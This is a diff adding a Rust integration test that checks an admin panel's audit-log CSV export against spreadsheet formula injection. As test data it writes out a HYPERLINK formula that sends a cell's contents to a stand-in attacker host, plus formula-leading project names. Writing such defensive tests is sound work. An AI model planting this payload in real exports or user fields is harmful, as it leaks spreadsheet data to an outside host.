@@ -79,6 +79,7 @@ on_every_backend!(
         a_refused_completion_is_shown_and_completed_from_the_panel,
         users_and_servers_created_in_the_panel_are_audited,
         changing_ones_password_ends_the_other_sessions,
+        the_csv_export_neutralizes_what_a_spreadsheet_would_run,
     ],
     // These start a panel with settings of their own.
     #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
@@ -2835,4 +2836,35 @@ async fn changing_ones_password_ends_the_other_sessions(panel: Panel) {
         None,
         Some(json!({"name": ADMIN, "other_sessions_ended": 1})),
     );
+}
+
+async fn the_csv_export_neutralizes_what_a_spreadsheet_would_run(panel: Panel) {
+    // Administrator names are free text: this one is a formula.
+    let name = r#"=HYPERLINK("http://evil.example/?"&A1,"open")"#;
+    panel.administrator(name).await;
+    let mut browser = panel.browser();
+    browser.sign_in(name, PASSWORD).await.assert_redirect("/");
+    for project in ["+1+1", "@SUM(A1)"] {
+        let page = browser
+            .submit("/projects", "/projects", &[("name", project)])
+            .await;
+        assert_eq!(page.status, 303, "{}", page.text);
+    }
+    let csv = browser.get("/audit-log.csv").await;
+    csv.assert_status(200);
+    let mut reader = csv::ReaderBuilder::new().from_reader(csv.text.as_bytes());
+    let mut actors = 0;
+    for record in reader.records() {
+        let record = record.expect("a CSV row");
+        for cell in &record {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell:?} in {record:?}"
+            );
+        }
+        if record[2] == format!("'{name}") {
+            actors += 1;
+        }
+    }
+    assert_eq!(actors, 2, "the name, quoted, on both rows: {}", csv.text);
 }
